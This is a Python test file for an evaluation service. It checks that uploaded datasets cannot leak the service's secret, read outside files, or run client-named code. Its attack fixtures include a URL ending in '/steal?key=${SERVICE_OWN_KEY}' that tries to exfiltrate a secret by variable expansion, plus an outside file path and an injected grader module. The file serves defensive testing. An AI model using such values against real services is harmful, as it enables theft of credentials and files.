"""Cases that clients send are data: nothing they say makes the service send, read, fetch or run.

Each test has canaries: a secret in the service's environment, a file outside, a listener that must
hear nothing, and a module that leaves a mark when it is imported.
"""

import asyncio
import base64
import json
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from burnish.server import Datasets, FileApp, create_app
from burnish.server.stores import RunStatus
from burnish.testing.servers import ScriptedServer
from tests.server.world import listening, manager_of, until

pytestmark = pytest.mark.slow
API = "/api/v1"
KEY, SECRET = "SERVICE_OWN_KEY", "sk-of-the-service-4711"
OUTSIDE = "what only the service may read"
GRADER = """\
from pathlib import Path

Path(__file__).with_name("imported").touch()


def grade(context):
    return True
"""


@dataclass
class World:
    """A service with an agent, and everything that must stay untouched."""

    folder: Path
    client: httpx.AsyncClient
    model: ScriptedServer
    listener: ScriptedServer
    app: Any

    @property
    def stored(self) -> Path:
        """Where datasets lie."""
        return self.folder / "data" / "datasets"

    @property
    def attacks(self) -> dict[str, tuple[dict[str, Any], list[str]]]:
        """By name, fields of a case, and the places in it that are refused."""
        model = {"provider": "openai", "name": "m", "endpoint": self.listener.base_url}
        judged = {"type": "geval", "name": "leak", "criteria": "c"}
        sent = [{**judged, "model": {**model, "api_key": f"${{{KEY}}}"}}]
        path = str(self.folder / "outside.txt")
        url = f"{self.listener.address}/steal?key=${{{KEY}}}"
        return {
            "model": (
                {"evaluations": sent},
                ["evaluations[0].model", "evaluations[0].model.api_key"],
            ),
            "grader": (
                {"evaluations": [{"type": "code", "grader": "canary_grader:grade"}]},
                ["evaluations[0].grader"],
            ),
            "path": ({"files": [{"type": "text", "path": path}]}, ["files[0].path"]),
            "url": ({"files": [{"type": "text", "url": url}]}, ["files[0].url", "files[0].url"]),
        }

    async def put(self, name: str, content: Any) -> httpx.Response:
        """Send a dataset."""
        text = content if isinstance(content, str) else json.dumps(content)
        return await self.client.put(f"{API}/datasets/{name}", content=text.encode())

    async def measure(self, **settings: Any) -> httpx.Response:
        """Ask for a measurement."""
        new = {"app": "clerk", "settings": settings}
        return await self.client.post(f"{API}/evaluations", json=new)

    def check_canaries(self) -> None:
        """Nothing was sent, read, fetched or imported."""
        assert not self.listener.requests
        assert not (self.folder / "imported").exists()
        sent = json.dumps([[each.json, dict(each.headers)] for each in self.model.requests])
        assert SECRET not in sent
        assert OUTSIDE not in sent


@asynccontextmanager
async def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncGenerator[World]:
    """The service on a socket, with an agent file whose own case uses every feature."""
    monkeypatch.setenv(KEY, SECRET)
    (tmp_path / "outside.txt").write_text(OUTSIDE)
    (tmp_path / "canary_grader.py").write_text(GRADER)
    async with ScriptedServer() as model, ScriptedServer() as listener:
        at = {"provider": "openai", "name": "m", "endpoint": model.base_url, "api_key": "${A_KEY}"}
        monkeypatch.setenv("A_KEY", "another-key")
        agent = {
            "name": "clerk",
            "model": at,
            "instructions": {"inline": "Answer."},
            "test_cases_file": "own.yaml",
            "evaluations": {"metrics": [{"type": "standard", "metric": "equality"}]},
        }
        (tmp_path / "agent.yaml").write_text(json.dumps(agent))
        datasets = Datasets(folder=tmp_path / "data" / "datasets")
        app = FileApp(name="clerk", path=tmp_path / "agent.yaml", datasets=datasets)
        served = create_app(manager_of(tmp_path, app))
        async with listening(served) as client:
            made = World(tmp_path, client, model, listener, served)
            own = {**made.attacks["grader"][0], **made.attacks["path"][0]}
            (tmp_path / "own.yaml").write_text(json.dumps([{"input": "own?", **own}]))
            yield made


def spelled(row: dict[str, Any]) -> dict[str, Any]:
    """The second of two cases, by format: the content of a file."""
    first = {"input": "harmless", "ground_truth": "ok"}
    rows = [first, {"input": "second", **row}]
    talk = {"turns": [{"input": "one"}, {"input": "two", **row}]}
    return {
        "a.jsonl": "\n".join(map(json.dumps, rows)),
        "a.json": rows,
        "b.json": {"test_cases": rows},
        "a.yaml": rows,
        "a.yml": {"test_cases": rows},
        "b.yaml": f"- {json.dumps(first)}\n- {{<<: {json.dumps(row)}, input: second}}\n",
        "talk.yaml": [first, talk],
    }


@pytest.mark.parametrize("attack", ["model", "grader", "path", "url"])
async def test_an_attack_is_refused_with_its_place_and_nothing_is_stored(
    attack: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with world(tmp_path, monkeypatch) as it:
        row, places = it.attacks[attack]
        for name, content in spelled(row).items():
            answer = await it.put(name, content)
            assert answer.status_code == 422, (name, answer.text)
            error = answer.json()["error"]
            turn = "turns[1]." if name.startswith("talk") else ""
            wheres = [each["where"] for each in error["problems"]]
            assert wheres == [f"cases[1].{turn}{place}" for place in places], name
            assert all(each["message"] and each["remedy"] for each in error["problems"])
            assert SECRET not in answer.text
            assert (await it.client.get(f"{API}/datasets/{name}")).status_code == 404
            assert (await it.measure(cases=name)).status_code == 404
        assert (await it.client.get(f"{API}/datasets")).json() == {"datasets": []}
        assert not it.stored.exists(), "something was written"
        assert (await it.client.get(f"{API}/runs")).json()["runs"] == []
        it.check_canaries()


async def test_an_evalset_and_csv_are_held_to_the_same(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with world(tmp_path, monkeypatch) as it:
        snake = {"eval_set_id": "s", "eval_cases": [{"eval_id": "1", **it.attacks["grader"][0]}]}
        table = f"input,path,grader\na,{tmp_path / 'outside.txt'},canary_grader:grade\n"
        tried = {
            "b.evalset.json": (snake, "b.evalset.json:1 eval_cases[0].evaluations"),
            "a.csv": (table, "cases[0].path"),
            "a.yaml": (f"test_cases_file: {tmp_path / 'own.yaml'}\n", "test_cases_file"),
            "b.yaml": ((tmp_path / "agent.yaml").read_text(), "test_cases_file"),
        }
        for name, (content, place) in tried.items():
            answer = await it.put(name, content)
            assert answer.status_code == 422, (name, answer.text)
            wheres = [each["where"] for each in answer.json()["error"]["problems"]]
            assert any(where.startswith(place) for where in wheres), (name, wheres)
        assert not it.stored.exists()
        it.check_canaries()


async def test_a_dataset_of_before_is_refused_when_it_is_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with world(tmp_path, monkeypatch) as it:
        it.stored.mkdir(parents=True)
        for attack, (row, places) in it.attacks.items():
            name = f"{attack}.jsonl"
            (it.stored / name).write_text(json.dumps({"input": "q", **row}) + "\n")
            tries = [
                await it.measure(cases=name),
                await it.client.get(f"{API}/datasets/{name}"),
                *[
                    await it.client.post(f"{API}/apps/clerk/runs", json={"settings": {split: name}})
                    for split in ("train", "holdout", "test")
                ],
            ]
            for answer in tries:
                assert answer.status_code == 422, (attack, answer.text)
                wheres = [each["where"] for each in answer.json()["error"]["problems"]]
                assert wheres == [f"{name} cases[0].{place}" for place in places]
            assert (await it.client.delete(f"{API}/datasets/{name}")).status_code == 204
        (it.stored / "other.yaml").write_text(f"test_cases_file: {tmp_path / 'own.yaml'}\n")
        assert (await it.client.get(f"{API}/datasets/other.yaml")).status_code == 422
        assert (await it.client.get(f"{API}/runs")).json()["runs"] == []
        it.check_canaries()


async def test_a_run_of_before_does_not_go_on_with_such_a_dataset(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with world(tmp_path, monkeypatch) as it:
        assert (await it.put("d.jsonl", {"input": "q"})).status_code == 201
        store = it.app.state.manager.store
        request = {"kind": "evaluate", "evaluation": {"cases": "d.jsonl"}}
        await store.create("clerk", "old", strategy="measure", request=request)
        (it.stored / "d.jsonl").write_text(
            json.dumps({"input": "q", **it.attacks["grader"][0]}) + "\n"
        )
        again = await it.client.post(f"{API}/apps/clerk/runs/old/resume")
        assert await it.app.state.manager.recover() == 0
        left = (await it.client.get(f"{API}/ready")).json()["left"]
        it.check_canaries()
    assert again.status_code == 422
    assert again.json()["error"]["problems"][0]["where"] == (
        "d.jsonl cases[0].evaluations[0].grader"
    )
    assert "a client cannot name code" in left[0]["why"]


async def test_cases_of_the_operator_keep_every_feature(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same fields, in the file that the app's own file names."""
    async with world(tmp_path, monkeypatch) as it:
        made = await it.measure()
        assert made.status_code == 201, made.text
        run = await until(
            it.app.state.manager, "clerk", made.json()["id"], RunStatus.SUCCEEDED, RunStatus.FAILED
        )
        assert run.status is RunStatus.SUCCEEDED, run.error
        assert (tmp_path / "imported").exists()
        assert OUTSIDE in json.dumps([each.json for each in it.model.requests])
        assert not it.listener.requests


async def test_data_and_files_that_come_along_reach_the_agent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    note = base64.b64encode(b"the note says ${SERVICE_OWN_KEY}").decode()
    row = {
        "id": "one",
        "input": "what does it say?",
        "expected": "ok",
        "labels": ["easy"],
        "expected_tools": ["look"],
        "files": [{"type": "text", "name": "note.txt", "data": note}],
    }
    async with world(tmp_path, monkeypatch) as it:
        put = await it.put("a.jsonl", row)
        assert put.status_code == 201, put.text
        made = await it.measure(cases="a.jsonl")
        assert made.status_code == 201, made.text
        run = await until(
            it.app.state.manager, "clerk", made.json()["id"], RunStatus.SUCCEEDED, RunStatus.FAILED
        )
        assert run.status is RunStatus.SUCCEEDED, run.error
        sent = json.dumps([each.json for each in it.model.requests])
        assert "note.txt" in sent
        assert "the note says ${SERVICE_OWN_KEY}" in sent, "an attachment is passed on as it is"
        it.check_canaries()


async def test_a_refused_upload_leaves_the_dataset_of_that_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Many at once, of one name: what is stored is always something that was found good."""
    async with world(tmp_path, monkeypatch) as it:
        good, bad = {"input": "good"}, {"input": "bad", **it.attacks["grader"][0]}
        answers = await asyncio.gather(*(it.put("a.jsonl", row) for row in [good, bad] * 10))
        assert [answer.status_code for answer in answers] == [201, 422] * 10
        page = (await it.client.get(f"{API}/datasets/a.jsonl")).json()["page"]
        assert [case["turns"][0]["input"] for case in page] == ["good"]
        assert [path.name for path in it.stored.iterdir()] == ["a.jsonl"]
        it.check_canaries()


async def test_only_the_first_offences_are_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with world(tmp_path, monkeypatch) as it:
        row = json.dumps({"input": "q", **it.attacks["path"][0]})
        answer = await it.put("a.jsonl", f"{row}\n" * 1000)
    problems = answer.json()["error"]["problems"]
    assert [each["where"] for each in problems[:10]] == [
        f"cases[{n}].files[0].path" for n in range(10)
    ]
    assert [each["message"] for each in problems[10:]] == ["and 990 more problems"]


@pytest.mark.parametrize("kind", ["application/json", "text/csv", "application/octet-stream"])
async def test_whatever_the_client_calls_its_type(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with world(tmp_path, monkeypatch) as it:
        for content, status in ((b'[{"input": "a"}]', 201), (b"[" * 100_000, 422), (b"\xff", 422)):
            answer = await it.client.put(
                f"{API}/datasets/a.json", content=content, headers={"content-type": kind}
            )
            assert answer.status_code == status, answer.text
